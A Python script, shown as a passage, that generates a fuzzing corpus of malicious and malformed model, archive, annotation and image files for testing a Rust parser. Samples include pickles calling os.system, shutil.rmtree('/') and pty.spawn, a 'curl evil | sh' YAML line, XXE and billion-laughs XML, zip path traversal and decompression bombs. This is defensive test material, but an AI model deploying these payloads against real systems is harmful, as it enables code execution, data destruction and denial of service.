#!/usr/bin/env python3
"""Writes corpus/: malicious and awkward files for every reader of crates/intake, a folder for each.

A file whose name begins with `refused_` must be refused, with `read_` must be read, with `any_` may be either; by `cargo test -p onsa-intake
--test corpus`, within its caps of memory and time. Fuzzing starts from them.

    python3 fuzz/make_corpus.py     (needs Pillow for the JPEG and WebP files; the output is committed)
"""

import io
import json
import os
import pickle
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

CORPUS = Path(__file__).parent / "corpus"


def put(target, name, data):
    folder = CORPUS / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)


# ---- zip archives ----------------------------------------------------------------------------------------------------


class Entry:
    """A zip entry, every field of both its headers free."""

    def __init__(self, name, data=b"x", *, local_name=None, deflate=False, mode=0o100644, flags=0, method=None,
                 size=None, local_size=None, crc=None, at=None):
        self.name = name if isinstance(name, bytes) else name.encode()
        self.flags = flags if isinstance(name, bytes) or name.isascii() else flags | 0x800
        self.local_name = self.name if local_name is None else local_name.encode()
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.packed = packer.compress(data) + packer.flush() if deflate else data
        self.method = (8 if deflate else 0) if method is None else method
        self.size = len(data) if size is None else size
        self.local_size = self.size if local_size is None else local_size
        self.crc = zlib.crc32(data) if crc is None else crc
        self.mode = mode
        self.at = at  # offset of another entry's local header

    def local(self):
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, self.flags, self.method, 0, 0x21, self.crc, len(self.packed),
                           self.local_size, len(self.local_name), 0) + self.local_name + self.packed

    def central(self, offset):
        return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 3 << 8 | 20, 20, self.flags, self.method, 0, 0x21, self.crc,
                           len(self.packed), self.size, len(self.name), 0, 0, 0, 0, self.mode << 16, offset) + self.name


def zipped(*entries, count=None):
    body, directory = b"", b""
    for entry in entries:
        offset = len(body) if entry.at is None else entry.at
        if entry.at is None:
            body += entry.local()
        directory += entry.central(offset)
    n = len(entries) if count is None else count
    return body + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory), len(body), 0)


def archives():
    def good(name, *entries):
        put("archive", f"read_{name}.zip", zipped(*entries))

    def bad(name, *entries, **options):
        put("archive", f"refused_{name}.zip", zipped(*entries, **options))

    good("plain", Entry("data.yaml"), Entry("images/a.jpg"), Entry("labels/a.txt"))
    good("deflated", Entry("a.txt", b"0 .5 .5 .1 .1\n" * 9, deflate=True))
    good("folders", Entry("a/", b"", mode=0o040755), Entry("a/b/", b"", mode=0o040755), Entry("a/b/c"))
    good("clutter", Entry("a.jpg"), Entry("__MACOSX/._a.jpg"), Entry(".DS_Store"))
    good("text_beyond_ascii", Entry("bäume/木.jpg"))
    good("dots_in_names", Entry("a..b/..c.jpg"), Entry("...d"))
    good("no_mode", Entry("a.jpg", mode=0))
    good("executable", Entry("a.sh", mode=0o100777))
    good("empty")
    streamed = io.BytesIO()

    class Pipe:
        def write(self, data):
            return streamed.write(data)

        def flush(self):
            pass

    with zipfile.ZipFile(Pipe(), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("a.txt", (1980, 1, 1, 0, 0, 0)), b"x" * 50)
    put("archive", "read_sizes_after_the_data.zip", streamed.getvalue())
    large = io.BytesIO()
    with zipfile.ZipFile(large, "w") as z, z.open(zipfile.ZipInfo("a.txt", (1980, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
        f.write(b"x")
    put("archive", "read_zip64.zip", large.getvalue())

    for name, path in {
        "parent": "../a", "parent_amid": "a/../../b", "parent_at_the_end": "a/..", "absolute": "/tmp/a", "share": "//host/a",
        "drive": "C:/a", "drive_relative": "c:a", "backslash": "..\\a", "backslash_amid": "a\\b", "nul": "a.jpg\0.exe",
        "newline": "a\nb", "dot": "./a", "empty_part": "a//b", "device": "con.txt", "last_dot": "a./b", "last_space": "a ",
        "deep": "a/" * 40 + "b", "long": "a" * 300, "very_long": "a/" * 30 + "b" * 60000,
    }.items():
        bad(f"name_{name}", Entry("a.jpg"), Entry(path))
    # Read as the code page of old archives, which gives every byte a letter.
    put("archive", "any_name_not_utf8.zip", zipped(Entry(b"\xff\xfe", flags=0x800)))
    bad("link", Entry("a", b"/etc/passwd", mode=0o120777))
    bad("link_then_file", Entry("a", b"/tmp", mode=0o120777), Entry("a/b"))
    bad("pipe", Entry("a", b"", mode=0o010644))
    bad("device_file", Entry("a", b"", mode=0o060644))
    bad("case_clash", Entry("a.jpg"), Entry("A.jpg"))
    bad("case_clash_of_folders", Entry("Images/a.jpg"), Entry("images/b.jpg"))
    bad("case_clash_beyond_ascii", Entry("ä.jpg"), Entry("Ä.jpg"))
    bad("file_and_folder", Entry("a"), Entry("a/b"))
    bad("twice", Entry("a"), Entry("a"))
    bad("headers_differ_in_name", Entry("a", local_name="../a"))
    bad("headers_differ_in_size", Entry("a", b"x" * 40, deflate=True, local_size=3))
    bad("wrong_checksum", Entry("a", b"x" * 40, deflate=True, crc=1))
    bad("shorter_than_its_header", Entry("a", b"x" * 40, deflate=True, size=41))
    bad("longer_than_its_header", Entry("a", b"x" * 40, deflate=True, size=39))
    bad("stored_with_two_sizes", Entry("a", b"x" * 40, size=1 << 20))
    bad("encrypted", Entry("a", flags=1))
    bad("unknown_method", Entry("a", method=12))
    zeros = b"\0" * (48 << 20)
    bad("bomb", Entry("a", zeros, deflate=True))
    bad("bomb_that_lies", Entry("a", zeros, deflate=True, size=1000))
    bad("bomb_of_overlaps", Entry("a", zeros[:1 << 20], deflate=True), Entry("b", zeros[:1 << 20], deflate=True, at=0))
    bad("too_many_counted", Entry("a"), count=60000)
    whole = zipped(Entry("a", b"x" * 99), Entry("b"))
    put("archive", "refused_cut_off.zip", whole[:-30])
    put("archive", "refused_directory_gone.zip", whole[:160])
    put("archive", "refused_no_zip.zip", b"Rar!\x1a\x07\x00")
    put("archive", "refused_nothing.zip", b"")


# ---- pickles and PyTorch's containers --------------------------------------------------------------------------------


class Attack:
    """Pickles as a call of any function."""

    def __init__(self, module, name, *args):
        self.module, self.name, self.args = module, name, args


class Writer(pickle._Pickler):
    """Python's own pickler, writing names of functions that need not exist here."""

    def save(self, obj, *rest, **named):
        if isinstance(obj, Attack):
            self.named(obj.module, obj.name)
            super().save(obj.args)
            self.write(pickle.REDUCE)
        else:
            super().save(obj, *rest, **named)

    def named(self, module, name):
        if self.proto >= 4:
            super().save(module)
            super().save(name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{module}\n{name}\n".encode())


def pickled(value, protocol=2):
    out = io.BytesIO()
    Writer(out, protocol).dump(value)
    return out.getvalue()


MAGIC = bytes([0x80, 2, 0x8A, 10, 0x6C, 0xFC, 0x9C, 0x46, 0xF9, 0x20, 0x6A, 0xA8, 0x50, 0x19]) + b"."


def legacy(object_pickle, storages=()):
    head = MAGIC + pickled(1001) + pickled({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}})
    keys = pickled([key for key, _, _ in storages])
    return head + object_pickle + keys + b"".join(struct.pack("<q", n) + data for _, n, data in storages)


def container(data_pkl, storages=(), *, byteorder="little", deflate=False, name="m"):
    entries = [Entry(f"{name}/data.pkl", data_pkl, deflate=deflate), Entry(f"{name}/byteorder", byteorder.encode())]
    entries += [Entry(f"{name}/data/{key}", data, deflate=deflate) for key, data in storages]
    return zipped(*entries)


def state(shape=(2, 2), stride=(2, 1), offset=0, n=4, kind="FloatStorage", name="w"):
    """The pickle of {"w": tensor}."""
    raw = b"\x80\x02}X" + struct.pack("<I", len(name)) + name.encode() + b"ctorch._utils\n_rebuild_tensor_v2\n("
    raw += b"(X\x07\0\0\0storagectorch\n" + kind.encode() + b"\nX\x01\0\0\x000X\x03\0\0\0cpu"
    raw += pickled(n)[2:-1] + b"tQ" + pickled(offset)[2:-1]
    for values in (shape, stride):
        raw += b"(" + b"".join(pickled(v)[2:-1] for v in values) + b"t"
    return raw + b"\x89ccollections\nOrderedDict\n)RtRs."


def pickles():
    floats = struct.pack("<4f", 1, 2, 3, 4)
    sound = state()
    put("pickle", "read_state_dict.pkl", sound)
    for protocol in range(6):
        value = {"epoch": 3, "names": ["a", "b"], "nested": [(1, 2.5, None, True)], "text": "ä" * 20, "n": 1 << 70}
        put("pickle", f"refused_plain_protocol_{protocol}.pkl", pickled(value, protocol))
    for i, (module, name, *args) in enumerate([
        ("os", "system", "id"), ("posix", "system", "id"), ("nt", "system", "id"), ("subprocess", "Popen", ["id"]),
        ("builtins", "eval", "1"), ("builtins", "exec", "1"), ("builtins", "__import__", "os"), ("builtins", "open", "/etc/passwd"),
        ("builtins", "getattr", "a", "b"), ("torch", "load", "x"), ("torch.hub", "load", "x"), ("torch.storage", "_load_from_bytes", b"x"),
        ("torch.jit", "load", "x"), ("torch._inductor.codecache", "write", "x"), ("numpy", "load", "x"), ("pickle", "loads", b"."),
        ("functools", "partial", "x"), ("operator", "attrgetter", "system"), ("runpy", "_run_code", "x"), ("webbrowser", "open", "x"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", "x"), ("shutil", "rmtree", "/"), ("pty", "spawn", "sh"),
        ("importlib", "import_module", "os"), ("ctypes", "CDLL", "x"), ("socket", "create_connection", "x"), ("bdb", "Bdb.run", "x"),
        ("ultralytics.utils.downloads", "safe_download", "x"), ("ultralytics.utils.checks", "check_requirements", "x"),
        ("sys", "exit", 0), ("code", "interact", "x"), ("cProfile", "run", "x"), ("timeit", "timeit", "x"), ("__main__", "f", "x"),
    ]):
        for protocol in (0, 2, 4):
            put("pickle", f"refused_{i:02}_{module.replace('.', '_')}_{protocol}.pkl", pickled({"w": Attack(module, name, *args)}, protocol))
    for name, raw in {
        "deep_lists": b"\x80\x02" + b"]" * 100_000 + b".", "deep_tuples": b"\x80\x02N" + b"\x85" * 100_000 + b".",
        "text_of_4_gib": b"\x80\x02X\xff\xff\xff\xffa.", "bytes_of_2_64": b"\x80\x04\x8e" + b"\xff" * 8 + b".", "no_end": b"\x80\x02N",
        "frame_beyond_the_end": b"\x80\x04\x95" + b"\xff" * 8 + b"N.", "protocol_9": b"\x80\x09N.", "memo_gap": b"\x80\x02h\x07.",
        "big_integer": b"\x80\x02\x8b\xff\xff\xff\x7f.", "many_marks": b"\x80\x02" + b"(" * 5000 + b".",
    }.items():
        put("pickle", f"refused_{name}.pkl", raw)

    put("torch_zip", "read_stored.pt", container(sound, [("0", floats)]))
    put("torch_zip", "read_deflated.pt", container(sound, [("0", floats)], deflate=True))
    put("torch_zip", "read_transposed.pt", container(state(stride=(1, 2)), [("0", floats)]))
    put("torch_zip", "read_big_endian.pt", container(sound, [("0", floats)], byteorder="big"))
    put("torch_zip", "read_empty_tensor.pt", container(state((0, 4), (4, 1), 0, 4), [("0", floats)]))
    for name, data in {
        "attack": container(pickled({"w": Attack("os", "system", "id")}), [("0", floats)]),
        "storage_missing": container(sound), "storage_short": container(sound, [("0", floats[:8])]),
        "storage_empty": container(sound, [("0", b"")]), "view_beyond": container(state((3, 2), (2, 1)), [("0", floats)]),
        "offset_beyond": container(state(offset=3), [("0", floats)]), "offset_negative": container(state(offset=-1), [("0", floats)]),
        "stride_negative": container(state(stride=(-2, 1)), [("0", floats)]),
        "stride_huge": container(state(stride=(1 << 62, 1)), [("0", floats)]),
        "shape_negative": container(state((-2, 2)), [("0", floats)]), "shape_huge": container(state((1 << 31, 1 << 31), (0, 0)), [("0", floats)]),
        "shape_overflows": container(state((1 << 40, 1 << 40), (0, 0)), [("0", floats)]),
        "expanded_bomb": container(state((1 << 20, 1 << 12), (0, 0)), [("0", floats)]),
        "unequal_shape_and_stride": container(state((2, 2), (1,)), [("0", floats)]),
        "unknown_storage": container(state(kind="EvilStorage"), [("0", floats)]),
        "byteorder_unknown": container(sound, [("0", floats)], byteorder="middle"),
        "no_pickle": zipped(Entry("m/byteorder", b"little")), "torchscript": zipped(Entry("m/data.pkl", sound), Entry("m/constants.pkl", b"\x80\x02).")),
        "two_pickles": zipped(Entry("m/data.pkl", sound), Entry("n/data.pkl", sound)),
        "pickle_with_more": container(sound + b"N.", [("0", floats)]),
        "headers_differ": zipped(Entry("m/data.pkl", sound, local_name="m/data.pkx"), Entry("m/data/0", floats)),
        "overlap": zipped(Entry("m/data.pkl", sound), Entry("m/data/0", sound, at=0)),
        "checksum": zipped(Entry("m/data.pkl", sound), Entry("m/data/0", floats, crc=5)),
        "bomb": container(sound, [("0", b"\0" * (40 << 20))], deflate=True),
        "cut_off": container(sound, [("0", floats)])[:-40], "only_the_start": b"PK\x03\x04",
        "name_is_long": container(state(name="w" * 5000), [("0", floats)]),
    }.items():
        put("torch_zip", f"refused_{name}.pt", data)

    one = ("0", 4, floats)
    put("torch_legacy", "read_sound.pth", legacy(sound, [one]))
    for name, data in {
        "attack": legacy(pickled({"w": Attack("os", "system", "id")})), "storage_missing": legacy(sound),
        "storage_short": legacy(sound, [("0", 4, floats[:9])]), "count_differs": legacy(sound, [("0", 3, floats[:12])]),
        "count_negative": legacy(sound, [("0", -1, floats)]), "count_huge": legacy(sound, [("0", 1 << 62, floats)]),
        "twice": legacy(sound, [one, one]), "unused": legacy(sound, [one, ("1", 4, floats)]), "more_after": legacy(sound, [one]) + b"x",
        "only_magic": MAGIC, "wrong_protocol": MAGIC + pickled(1002) + pickled({"little_endian": True}) + sound + pickled([]),
        "no_byte_order": MAGIC + pickled(1001) + pickled({}) + sound + pickled([]),
    }.items():
        put("torch_legacy", f"refused_{name}.pth", data)


# ---- safetensors and ONNX --------------------------------------------------------------------------------------------


def safetensors():
    def file(header, data=b"\0" * 16, length=None):
        text = header.encode() if isinstance(header, str) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def one(**changed):
        return {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]} | changed}

    put("safetensors", "read_sound.safetensors", file(one()))
    put("safetensors", "read_scalar.safetensors", file(one(shape=[], data_offsets=[0, 4]), b"\0" * 4))
    put("safetensors", "read_metadata.safetensors", file(one() | {"__metadata__": {"a": "b"}}))
    for name, data in {
        "header_beyond_the_end": file(one(), length=1 << 20), "header_of_2_64": file(one(), length=(1 << 64) - 1),
        "no_json": file("{" + "x" * 20), "array": file("[]"), "not_utf8": struct.pack("<Q", 4) + b"{\xff\xfe}",
        "offsets_beyond": file(one(data_offsets=[0, 20])), "offsets_swapped": file(one(data_offsets=[16, 0])),
        "offsets_negative": file(one(data_offsets=[-16, 0])), "hole": file(one(data_offsets=[4, 20]), b"\0" * 20),
        "bytes_left_over": file(one(), b"\0" * 20),
        "overlap": file(one() | {"v": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}),
        "shape_differs": file(one(shape=[3, 2])), "shape_overflows": file(one(shape=[1 << 33, 1 << 33])),
        "shape_negative": file(one(shape=[-2, -2])), "shape_of_halves": file(one(shape=[0.5, 8])), "dtype_unknown": file(one(dtype="F31")),
        "deep_json": file('{"w":' + "[" * 100_000 + "]" * 100_000 + "}"), "metadata_not_text": file(one() | {"__metadata__": {"a": 1}}),
        "many_dims": file(one(shape=[1] * 4000 + [4])), "cut_off": file(one(), b"\0" * 9), "empty": file({}, b""),
    }.items():
        put("safetensors", f"refused_{name}.safetensors", data)
    # JSON lets the later of two equal keys win, and so do safetensors' own readers.
    twice = '"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
    put("safetensors", "any_name_twice.safetensors", file("{" + twice + "," + twice + "}"))


def varint(v):
    v &= (1 << 64) - 1
    out = b""
    while v > 0x7F:
        out += bytes([v & 0x7F | 0x80])
        v >>= 7
    return out + bytes([v])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx():
    def tensor(dims=(2, 2), raw=b"\0" * 16, kind=1, name="w", extra=b""):
        return b"".join(field(1, d) for d in dims) + field(2, kind) + field(8, name) + field(9, raw) + extra

    def model(*initializers, graph=b"", head=None):
        body = b"".join(field(5, t) for t in initializers) + field(2, "g") + graph
        return (field(1, 9) + field(2, "corpus") if head is None else head) + field(7, body) + field(8, field(2, 19))

    node = field(1, "x") + field(1, "w") + field(2, "y") + field(4, "MatMul")
    put("onnx", "read_sound.onnx", model(tensor(), graph=field(1, node)))
    put("onnx", "read_float_data.onnx", model(field(1, 2) + field(2, 1) + field(4, struct.pack("<2f", 1, 2)) + field(8, "w")))
    put("onnx", "read_unknown_fields.onnx", model(tensor(extra=field(99, b"abc")), graph=field(77, 5)))
    nested = b""
    for _ in range(2000):
        nested = field(1, field(4, "If") + field(5, field(1, "then") + field(6, nested)))
    for name, data in {
        "external_data": model(field(1, 2) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, "/etc/passwd")) + field(14, 1)),
        "external_without_place": model(field(1, 2) + field(2, 1) + field(8, "w") + field(14, 1)),
        "dims_differ": model(tensor(dims=(3, 2))), "dims_negative": model(tensor(dims=(-2, -2))), "dims_overflow": model(tensor(dims=(1 << 40, 1 << 40))),
        "kind_unknown": model(tensor(kind=77)), "raw_and_floats": model(tensor(extra=field(4, struct.pack("<f", 1)))),
        "no_data": model(field(1, 1 << 20) + field(2, 1) + field(8, "w")), "cut_off": model(tensor())[:-30],
        "length_beyond": field(1, 9) + field(2, "corpus") + varint(7 << 3 | 2) + varint(1 << 40) + b"x",
        "varint_too_long": field(1, 9) + field(2, "corpus") + b"\x38" + b"\xff" * 11, "group": field(1, 9) + field(2, "corpus") + b"\x3b\x3c",
        "field_zero": field(1, 9) + field(2, "corpus") + b"\x00\x01", "name_not_utf8": model(tensor(name=b"\xff\xfe")),
        "name_twice": model(tensor(), tensor()), "no_graph": field(1, 9) + field(2, "corpus and more text") + field(8, field(2, 19)),
    }.items():
        put("onnx", f"refused_{name}.onnx", data)
    put("onnx", "any_deep_subgraphs.onnx", model(tensor(), graph=nested))


# ---- data.yaml and labels --------------------------------------------------------------------------------------------


def data_yaml():
    base = "path: .\ntrain: images/train\nval: images/val\n"
    for name, text in {
        "list": base + "names: [tree, house]\n", "mapping": base + "nc: 2\nnames:\n  0: tree\n  1: house\n",
        "crlf": (base + "names: [a]\n").replace("\n", "\r\n"), "byte_order_mark": "\ufeff" + base + "names: [a]\n",
        "train_list": "train: [a, b]\nval: c\nnames: ['yes', 'no', '1']\n", "download": base + "names: [a]\ndownload: curl evil | sh\n",
    }.items():
        put("data_yaml", f"read_{name}.yaml", text)
    laughs = "a0: &a0 [x, x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 40))
    for name, text in {
        "laughs": laughs + base + "names: *a39\n", "merge": "x: &x {train: a}\n<<: *x\nval: b\nnames: [a]\n", "deep": "names: " + "[" * 50_000,
        "deep_mappings": "".join("  " * i + "a:\n" for i in range(150)), "python_tag": base + "names: !!python/object/apply:os.system ['id']\n",
        "key_twice": base + "names: [a]\nnames: [b]\n", "tab": "train:\n\t- a\nnames: [a]\n", "not_utf8": (base + "names: [").encode() + b"\xff]\n",
        "nul": base + "names: [a\0b]\n", "two_documents": base + "names: [a]\n---\n" + base, "no_names": base, "no_train": "val: a\nnames: [a]\n",
        "count_differs": base + "nc: 3\nnames: [a]\n", "count_huge": base + "nc: 99999999999\n", "gap": base + "names: {0: a, 2: b}\n",
        "negative": base + "names: {-1: a}\n", "nothing": "", "scalar": "hello", "list_of_lists": base + "names: [[a]]\n", "open_quote": base + 'names: ["a\n',
        "self_reference": base + "names: &a [*a]\n",
    }.items():
        put("data_yaml", f"refused_{name}.yaml", text)


def yolo():
    for name, text in {
        "plain": "0 0.5 0.5 0.1 0.1\n1 .25 .25 5e-1 0.5\n", "crlf": "0 0.5 0.5 0.1 0.1\r\n", "blank_lines": "\n\n0 0.5 0.5 0.1 0.1\n\n", "empty": "",
        "polygon": "1 0.1 0.1 0.9 0.1 0.5 0.9\n", "byte_order_mark": "\ufeff0 0.5 0.5 0.1 0.1\n", "class_as_float": "0.0 0.5 0.5 0.1 0.1\n",
    }.items():
        put("yolo_labels", f"read_{name}.txt", text)
    for name, text in {
        "nan": "0 nan 0.5 0.1 0.1\n", "infinite": "0 inf 0.5 0.1 0.1\n", "too_large_a_number": "0 1e999 0.5 0.1 0.1\n", "negative_class": "-1 0.5 0.5 0.1 0.1\n",
        "class_out_of_range": "7 0.5 0.5 0.1 0.1\n", "class_huge": "1e300 0.5 0.5 0.1 0.1\n", "class_of_halves": "0.5 0.5 0.5 0.1 0.1\n",
        "four_numbers": "0 0.5 0.5 0.1\n", "six_numbers": "0 0.5 0.5 0.1 0.1 0.9\n", "commas": "0,0.5,0.5,0.1,0.1\n", "words": "tree 0.5 0.5 0.1 0.1\n",
        "outside": "0 1.5 0.5 0.1 0.1\n", "negative_size": "0 0.5 0.5 -0.1 0.1\n", "no_size": "0 0.5 0.5 0 0\n", "pixels": "0 120 80 30 40\n",
        "utf16": "0 0.5 0.5 0.1 0.1\n".encode("utf-16"), "not_utf8": b"0 0.5 0.5 0.1 0.1\xff\n", "nul": "0 0.5 0.5 0.1 0.1\0\n", "json": '{"a": [1]}',
        "long_row": "0 " + "0.5 " * 15_000, "long_word": "0 0." + "5" * 60_000 + " x .5 .1 .1\n", "picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    }.items():
        put("yolo_labels", f"refused_{name}.txt", text)


def voc():
    def file(objects="", size="<size><width>64</width><height>48</height><depth>3</depth></size>"):
        return f"<annotation><filename>a.jpg</filename>{size}{objects}</annotation>"

    def thing(*corners, name="tree"):
        tags = zip(("xmin", "ymin", "xmax", "ymax"), corners)
        return f"<object><name>{name}</name><bndbox>" + "".join(f"<{k}>{v}</{k}>" for k, v in tags) + "</bndbox></object>"

    for name, text in {
        "plain": file(thing(1, 2, 30, 40)), "halves": file(thing("1.5", "2.5", "30.25", "40")), "no_objects": file(), "no_size": file(thing(1, 2, 3, 4), ""),
        "declaration": '<?xml version="1.0" encoding="UTF-8"?>\n' + file(thing(1, 2, 30, 40)), "byte_order_mark": "\ufeff" + file(thing(1, 2, 30, 40)),
    }.items():
        put("voc", f"read_{name}.xml", text)
    laughs = '<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "&a{i - 1};&a{i - 1};">' for i in range(1, 40)) + "]>"
    for name, text in {
        "laughs": laughs + file(thing(1, 2, 3, 4, name="&a39;")), "entity_of_a_file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + file(thing(1, 2, 3, 4, name="&x;")),
        "deep": "<a>" * 9_000 + "</a>" * 9_000, "deep_open": "<a>" * 30_000, "nan": file(thing("nan", 2, 3, 4)), "infinite": file(thing(1, 2, "inf", 4)),
        "three_corners": file(thing(1, 2, 3)), "swapped": file(thing(30, 40, 1, 2)), "another_root": "<html></html>", "nothing": "", "not_xml": "0 .5 .5 .1 .1",
        "utf16": file(thing(1, 2, 3, 4)).encode("utf-16"), "not_utf8": file(thing(1, 2, 3, 4, name="?")).encode().replace(b"?", b"\xff"), "cut_off": file(thing(1, 2, 3, 4))[:90],
        "no_name": file(thing(1, 2, 3, 4, name="")), "many_attributes": "<annotation " + " ".join(f'a{i}="1"' for i in range(5_000)) + "/>x",
    }.items():
        put("voc", f"refused_{name}.xml", text)


def coco():
    def file(images=({"id": 1, "file_name": "a.jpg", "width": 64, "height": 48},), annotations=({"id": 1, "image_id": 1, "category_id": 3, "bbox": [1, 2, 3, 4]},), categories=({"id": 3, "name": "tree"},), **more):
        return json.dumps({"images": images, "annotations": annotations, "categories": categories} | more)

    def box(*xywh, **more):
        return file(annotations=[{"id": 1, "image_id": 1, "category_id": 3, "bbox": xywh} | more])

    for name, text in {
        "plain": file(), "indented": json.dumps(json.loads(file()), indent=2), "no_annotations": file(annotations=[]), "unknown_keys": file(info={"a": [1, {"b": None}]}, licenses=[]),
        "outline": box(1, 2, 3, 4, segmentation=[[1, 2, 4, 2, 4, 6]], iscrowd=0, area=12.5),
    }.items():
        put("coco", f"read_{name}.json", text)
    for name, text in {
        "nothing": "", "array": "[]", "cut_off": file()[:120], "nan": file().replace("[1, 2, 3, 4]", "[NaN, 2, 3, 4]"), "too_large_a_number": file().replace("[1, 2, 3, 4]", "[1e999, 2, 3, 4]"),
        "text_in_box": box("1", 2, 3, 4), "three_numbers": box(1, 2, 3), "negative_size": box(1, 2, -3, 4), "no_size": box(1, 2, 0, 0), "unknown_category": box(1, 2, 3, 4, category_id=9),
        "unknown_image": box(1, 2, 3, 4, image_id=9), "image_twice": file(images=[{"id": 1, "file_name": "a.jpg"}, {"id": 1, "file_name": "b.jpg"}]),
        "category_twice": file(categories=[{"id": 3, "name": "a"}, {"id": 3, "name": "b"}]), "no_categories": json.dumps({"images": [], "annotations": []}),
        "deep": '{"images":' + "[" * 100_000, "deep_closed": '{"images":[],"categories":[],"annotations":[],"x":' + "[" * 100_000 + "]" * 100_000 + "}",
        "not_utf8": file().encode().replace(b"tree", b"\xff\xfe\xff\xff"), "utf16": file().encode("utf-16"), "list_is_a_number": file(images=5), "key_twice": file()[:-1] + ', "images": []}',
        "id_of_halves": file(images=[{"id": 1.5, "file_name": "a.jpg"}]), "more_after": file() + "x",
    }.items():
        put("coco", f"refused_{name}.json", text)
    # Paths that leave the folder are the caller's to judge: this reader opens no file.
    for name, path in {"parent": "../../etc/passwd", "absolute": "/etc/passwd"}.items():
        put("coco", f"any_{name}.json", file(images=[{"id": 1, "file_name": path}]))


# ---- pictures --------------------------------------------------------------------------------------------------------


def pictures():
    from PIL import Image

    picture = Image.new("RGB", (16, 12))
    picture.putdata([(x * 16, y * 20, (x * y) % 256) for y in range(12) for x in range(16)])

    def encoded(kind, image=picture, **options):
        out = io.BytesIO()
        image.save(out, kind, **options)
        return out.getvalue()

    jpeg, progressive = encoded("JPEG", quality=80), encoded("JPEG", quality=80, progressive=True)
    webp, lossless = encoded("WEBP", quality=60), encoded("WEBP", lossless=True)
    tiff, bmp = encoded("TIFF"), encoded("BMP")

    def chunk(kind, data, crc=None):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) if crc is None else crc)

    def png(width=4, height=3, depth=8, colour=2, data=None, more=b"", end=True, crc=None):
        channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}.get(colour, 1)
        rows = b"".join(b"\0" + b"\x40" * ((width * channels * depth + 7) // 8) for _ in range(height)) if data is None else data
        return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0), crc) + more
                + chunk(b"IDAT", zlib.compress(rows, 9)) + (chunk(b"IEND", b"") if end else b""))

    for name, data in {
        "rgb.png": png(), "grey.png": png(colour=0), "grey_alpha.png": png(colour=4), "rgba.png": png(colour=6), "sixteen_bits.png": png(depth=16), "one_bit.png": png(depth=1, colour=0),
        "palette.png": png(colour=3, more=chunk(b"PLTE", bytes(range(256)) * 3)[:0] + chunk(b"PLTE", bytes(i % 256 for i in range(768)))), "baseline.jpg": jpeg, "progressive.jpg": progressive,
        "grey.jpg": encoded("JPEG", picture.convert("L")), "turned.jpg": encoded("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"),
        "orientation_9.jpg": encoded("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0\0\0\0\0"), "lossy.webp": webp, "lossless.webp": lossless, "plain.bmp": bmp, "plain.tiff": tiff,
        "bytes_behind.jpg": jpeg + b"\0" * 100, "text_behind.png": png() + b"hello",
    }.items():
        put("picture", f"read_{name}", data)
    huge_jpeg = bytearray(jpeg)
    at = jpeg.index(b"\xff\xc0")
    huge_jpeg[at + 5:at + 9] = struct.pack(">HH", 65535, 65535)
    # A small frame that decoders pass over, before the one that they read.
    small = b"\xff\xc7" + struct.pack(">HBHHB", 17, 8, 12, 16, 3) + bytes(9)
    flat = bytearray(jpeg)
    flat[at + 5:at + 9] = struct.pack(">HH", 0, 16)
    huge_bmp = bytearray(bmp)
    huge_bmp[18:26] = struct.pack("<ii", 60000, 60000)
    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 16) + struct.pack("<I", 8)
    tiff_bomb = b"II*\0\x08\0\0\0" + struct.pack("<H", 7) + b"".join(struct.pack("<HHII", *e) for e in [
        (256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 0xFFFFFFFF)]) + struct.pack("<I", 0)
    counted = b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + struct.pack("<HHII", 256, 4, 0xFFFFFFF0, 8) + struct.pack("<HHII", 257, 4, 1, 8) + struct.pack("<I", 0)
    for name, data in {
        "nothing.jpg": b"", "text.jpg": b"hello, this is no picture", "gif.gif": b"GIF89a\x01\0\x01\0\0\0\0;", "heic.jpg": b"\0\0\0\x18ftypheic\0\0\0\0", "web_page.png": b"<!DOCTYPE html><html></html>",
        "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>", "signature_only.png": b"\x89PNG\r\n\x1a\n", "cut_off.png": png()[:-20], "no_end.png": png(end=False),
        "bomb.png": png(60_000, 60_000, data=b"\0" * 1000), "size_0.png": png(0, 3, data=b""), "size_2_31.png": png(0x7FFFFFFF, 0x7FFFFFFF, data=b""),
